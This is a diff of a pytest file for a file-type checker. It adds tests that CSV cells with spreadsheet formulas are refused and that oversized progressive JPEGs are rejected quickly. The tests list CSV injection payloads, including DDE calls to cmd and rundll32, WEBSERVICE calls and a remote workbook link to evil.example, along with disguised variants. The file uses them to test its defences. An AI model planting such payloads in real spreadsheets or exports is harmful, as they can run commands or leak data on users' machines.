@@ -1,8 +1,12 @@
 """What a file is, by what is in it; and that a picture loses all that is not the picture."""
 
 import io
+import re
 import subprocess
 import sys
+import time
+from contextlib import suppress
+from itertools import pairwise
 from pathlib import Path
 
 import pytest
@@ -90,6 +94,54 @@ def test_each_kind_is_known_by_its_content() -> None:
 def test_what_is_not_kept_is_told_what_it_is(content: bytes, code: str, word: str) -> None:
     told, why = refusal_of(content)
     assert (told, word in why) == (code, True), why
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "-2+3+cmd|' /C calc'!A0",
+        "+1+HYPERLINK(A1)",
+        "-1&WEBSERVICE (A1)",
+        "+(HYPERLINK(A1))",
+        "@A1*SUM(1)",
+        "-LOG10(5)",
+        "+_xlfn.WEBSERVICE(A1)",
+        "+'//evil.example/[x.xls]S'!A1",
+        "+1+[x.xls]S!A1",
+        " " * 40 + "=1+1",
+        "\n=1+1",
+        "\t\t=A1",
+        "＝1+1",
+        "＋cmd|x!A0",
+        "+1+rundll32|'x'!A0",
+    ],
+)
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_cell_is_a_formula_in_whichever_disguise(cell: str, delimiter: str) -> None:
+    table = f'a{delimiter}b\n1{delimiter}"{cell}"\n'.encode()
+    assert refusal_of(table)[0] == "formula"
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        *("-5", "+49 30 1234", "-5 (estimated)", "-(12)", "-1e-5", "@handle", "-", "- 1|2"),
+        *("- as told (see p. 2)", "+4 % (2019) | 3", "x-cmd(1)", "a @ b(c)", "-3 [1] of 4!"),
+    ],
+)
+def test_numbers_and_notes_with_a_sign_are_no_formulas(cell: str) -> None:
+    table = f'a,b\n1,"{cell}"\n'.encode()
+    assert judged(table, largest=LARGEST).content == table
+
+
+@pytest.mark.parametrize("piece", [" ", "\t", "-a ", "-\t", "|", "a|", "]a", "=", "-A.", "\n"])
+def test_looking_for_formulas_takes_no_square_of_time(piece: str) -> None:
+    began = time.monotonic()
+    with suppress(NotKept):
+        judged(
+            ("a,b\n" + f'1,"-{piece * (90_000 // len(piece))}"\n' * 20).encode(), largest=LARGEST
+        )
+    assert time.monotonic() - began < 3
 
 
 @pytest.mark.parametrize(
@@ -226,3 +278,15 @@ def test_a_damaged_picture_is_another_picture_or_none(drawn: st.DataObject) -> N
     assert again == kind
     if kind == "png":
         assert pixels_of(same) == pixels_of(clean)
+
+
+def test_a_picture_of_very_many_scans_is_not_walked_through() -> None:
+    sent = io.BytesIO()
+    Image.new("RGB", (3_000, 3_000), "red").save(sent, "JPEG", progressive=True)
+    content = sent.getvalue()
+    starts = [at.start() for at in re.finditer(b"\xff\xda", content)]
+    scan = min((content[one:two] for one, two in pairwise(starts[1:])), key=len)
+    assert kind_of(content) == "jpeg"
+    began = time.monotonic()
+    assert refusal_of(content[:-2] + scan * 60_000 + content[-2:])[0] == "broken"
+    assert time.monotonic() - began < 5
